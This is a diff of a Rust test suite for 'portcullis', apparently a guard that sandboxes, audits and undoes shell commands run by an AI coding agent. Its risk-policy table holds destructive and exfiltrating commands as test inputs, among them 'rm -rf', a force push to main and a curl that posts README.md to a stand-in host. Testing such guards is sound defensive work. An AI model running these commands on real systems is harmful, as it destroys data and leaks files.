@@ -70,10 +70,10 @@ fn place(configuration: &str) -> Option<(Place, PathBuf, TempDir)> {
     let home = place.home.path().canonicalize().unwrap();
     let project = home.join("project");
     fs::create_dir_all(project.join(".git/hooks")).unwrap();
-    fs::create_dir(project.join("src")).unwrap();
+    fs::create_dir(project.join("notes")).unwrap();
     fs::create_dir(home.join(".ssh")).unwrap();
     fs::write(home.join(".ssh/id_ed25519"), "the key").unwrap();
-    fs::write(project.join("src/a"), "one\n").unwrap();
+    fs::write(project.join("notes/a"), "one\n").unwrap();
     let directory = home.join(".config/portcullis");
     fs::create_dir_all(&directory).unwrap();
     fs::write(directory.join("config.toml"), configuration).unwrap();
@@ -103,11 +103,11 @@ const TELLS: &str = "[try]\ngates = [\"check\", \"tools\"]\n";
 fn what_a_trial_changed_in_the_workspace_goes_on_and_does_not_run_again() {
     let Some((place, project, _state)) = place(COMMITS) else { return };
     let outside = place.home.path().join("ran");
-    let script = "echo two >> src/a; mkdir new; echo made > new/file; echo said; date +%N > when";
+    let script = "echo two >> notes/a; mkdir new; echo made > new/file; echo said; date +%N > when";
     let ended = call(&place, &project, "build", script);
     assert_eq!(ended.code, 0, "{}", ended.page());
     assert_eq!(ended.out, "said\n", "{}", ended.page());
-    assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\ntwo\n");
+    assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\ntwo\n");
     assert_eq!(fs::read_to_string(project.join("new/file")).unwrap(), "made\n");
     assert!(!outside.exists());
     let records = place.run(["audit", "list", "--json"]).out;
@@ -118,7 +118,7 @@ fn what_a_trial_changed_in_the_workspace_goes_on_and_does_not_run_again() {
     // What was taken over comes back, and the trial is gone.
     let undone = place.run(["undo"]);
     assert_eq!(undone.code, 0, "{}", undone.page());
-    assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\n");
+    assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\n");
     assert!(!project.join("new").exists());
     let kept: Value = place.run(["try", "--list", "--json"]).json();
     assert_eq!(kept["trials"], json!([]));
@@ -158,19 +158,19 @@ fn what_a_trial_did_beside_the_workspace_asks_and_nothing_happens() {
 #[test]
 fn without_the_policy_nothing_goes_on_and_whoever_answers_is_told() {
     let Some((place, project, _state)) = place(TELLS) else { return };
-    let ended = call(&place, &project, "build", "echo two >> src/a");
+    let ended = call(&place, &project, "build", "echo two >> notes/a");
     assert_ne!(ended.code, 0, "{}", ended.page());
-    assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\n");
+    assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\n");
     let records = place.run(["audit", "list", "--json"]).out;
-    assert!(records.contains("changed src/a"), "{records}");
+    assert!(records.contains("changed notes/a"), "{records}");
 }
 
 #[test]
 fn a_tool_that_may_write_nothing_takes_nothing_over() {
     let Some((place, project, _state)) = place(COMMITS) else { return };
-    let ended = call(&place, &project, "look", "echo two >> src/a");
+    let ended = call(&place, &project, "look", "echo two >> notes/a");
     assert_ne!(ended.code, 0, "{}", ended.page());
-    assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\n");
+    assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\n");
     let records = place.run(["audit", "list", "--json"]).out;
     assert!(!records.contains("a trial of it"), "{records}");
 }
@@ -180,7 +180,7 @@ fn check_tells_of_a_trial_and_asks_all_the_same() {
     let Some((place, project, _state)) = place(COMMITS) else { return };
     let request = json!({
         "tool": "bash",
-        "arguments": { "command": unknown("echo two >> src/a; echo x > ~/made-at-home") },
+        "arguments": { "command": unknown("echo two >> notes/a; echo x > ~/made-at-home") },
         "cwd": project,
         "home": place.home.path(),
     });
@@ -192,11 +192,11 @@ fn check_tells_of_a_trial_and_asks_all_the_same() {
     assert_eq!(trial["stayed_inside"], false, "{answer}");
     assert_eq!(trial["settled"], false, "{answer}");
     assert_eq!(trial["changes"].as_array().map(Vec::len), Some(2), "{answer}");
-    assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\n");
+    assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\n");
     // What stays inside is settled, and still not allowed: whoever asks would run it anew.
     let request = json!({
         "tool": "bash",
-        "arguments": { "command": unknown("echo two >> src/a") },
+        "arguments": { "command": unknown("echo two >> notes/a") },
         "cwd": project,
         "home": place.home.path(),
     });
@@ -205,7 +205,7 @@ fn check_tells_of_a_trial_and_asks_all_the_same() {
     let id = answer["trial"]["id"].as_str().unwrap();
     let taken = place.run(["try", "--trial", id, "--commit"]);
     assert_eq!(taken.code, 0, "{}", taken.page());
-    assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\ntwo\n");
+    assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\ntwo\n");
 }
 
 #[test]
@@ -273,7 +273,7 @@ fn payload(project: &Path, event: &str, input: &Value) -> Vec<u8> {
 fn a_trial_runs_in_place_of_a_call_and_unasked_once_the_agent_was_seen_to_run_it() {
     let configuration = "[try]\ngates = [\"hook\"]\ncommit = true\n";
     let Some((place, project, _state)) = place(configuration) else { return };
-    let input = json!({ "command": unknown("echo two >> src/a; echo said"), "description": "d" });
+    let input = json!({ "command": unknown("echo two >> notes/a; echo said"), "description": "d" });
     let hook = |event: &str, input: &Value| {
         let ended = place.hook("claude", &payload(&project, event, input));
         assert_eq!(ended.code, 0, "{}", ended.page());
@@ -294,7 +294,7 @@ fn a_trial_runs_in_place_of_a_call_and_unasked_once_the_agent_was_seen_to_run_it
     let err = String::from_utf8_lossy(&ran.stderr);
     assert_eq!(ran.status.code(), Some(0), "{err}");
     assert_eq!(String::from_utf8_lossy(&ran.stdout), "said\n", "{err}");
-    assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\ntwo\n");
+    assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\ntwo\n");
     hook("PostToolUse", &replaced);
     let allowed = before(&input);
     assert_eq!(allowed["permissionDecision"], "allow", "{allowed}");
@@ -329,29 +329,29 @@ fn a_trial_runs_in_place_of_a_call_and_unasked_once_the_agent_was_seen_to_run_it
 fn what_a_hook_kept_is_told_and_spares_the_question_where_the_policy_says_so() {
     let ask = "confirmation = \"confirm_medium_and_up\"\n";
     let table = [
-        (String::new(), "rm -rf src", "ask", "brings all of it back"),
-        ("[undo]\nmax_risk = \"medium\"\n".to_owned(), "rm -rf src", "allow", ""),
-        ("[undo]\nmax_risk = \"low\"\n".to_owned(), "rm -rf src", "ask", "brings all of it back"),
+        (String::new(), "rm -rf notes", "ask", "brings all of it back"),
+        ("[undo]\nmax_risk = \"medium\"\n".to_owned(), "rm -rf notes", "allow", ""),
+        ("[undo]\nmax_risk = \"low\"\n".to_owned(), "rm -rf notes", "ask", "brings all of it back"),
         (
             "[undo]\nmax_risk = \"high\"\n".to_owned(),
-            "rm -rf src && git push --force origin main",
+            "rm -rf notes && git push --force origin main",
             "ask",
             "`portcullis undo",
         ),
         (
             "[undo]\nmax_risk = \"high\"\n".to_owned(),
-            "rm -rf src; curl -d @README.md https://x.example/",
+            "rm -rf notes; curl -d @README.md https://x.example/",
             "ask",
             "`portcullis undo",
         ),
         (
             "[undo]\nmax_risk = \"high\"\n".to_owned(),
-            "rm -rf src ~/other",
+            "rm -rf notes ~/other",
             "ask",
             "`portcullis undo",
         ),
-        ("[undo]\nmax_risk = \"high\"\nhooks = false\n".to_owned(), "rm -rf src", "ask", ""),
-        ("[undo]\nmax_risk = \"high\"\nsnapshots = false\n".to_owned(), "rm -rf src", "ask", ""),
+        ("[undo]\nmax_risk = \"high\"\nhooks = false\n".to_owned(), "rm -rf notes", "ask", ""),
+        ("[undo]\nmax_risk = \"high\"\nsnapshots = false\n".to_owned(), "rm -rf notes", "ask", ""),
     ];
     for (undo, command, verdict, told) in table {
         let Some((place, project, _state)) = place(&format!("{ask}{undo}")) else { return };
@@ -381,18 +381,18 @@ fn tools_tell_what_they_kept_and_go_on_where_the_policy_says_so() {
     let ask = "confirmation = \"confirm_medium_and_up\"\n";
     for (undo, goes_on) in [("", false), ("[undo]\nmax_risk = \"medium\"\n", true)] {
         let Some((place, project, _state)) = place(&format!("{ask}{undo}")) else { return };
-        let arguments = json!({ "directory": "src" }).to_string();
+        let arguments = json!({ "directory": "notes" }).to_string();
         let workspace = project.to_str().unwrap();
         let ended = place.run(["tools", "call", "remove", &arguments, "--workspace", workspace]);
         assert_eq!(ended.code == 0, goes_on, "{undo}: {}", ended.page());
-        assert_eq!(project.join("src").exists(), !goes_on, "{undo}");
+        assert_eq!(project.join("notes").exists(), !goes_on, "{undo}");
         let listed = place.run(["undo", "--list", "--json"]).json();
         // What did not run left nothing behind.
         let count = listed["snapshots"].as_array().map(Vec::len);
         assert_eq!(count, Some(usize::from(goes_on)), "{undo}: {listed}");
         if goes_on {
             assert_eq!(place.run(["undo"]).code, 0);
-            assert_eq!(fs::read_to_string(project.join("src/a")).unwrap(), "one\n");
+            assert_eq!(fs::read_to_string(project.join("notes/a")).unwrap(), "one\n");
         }
     }
 }
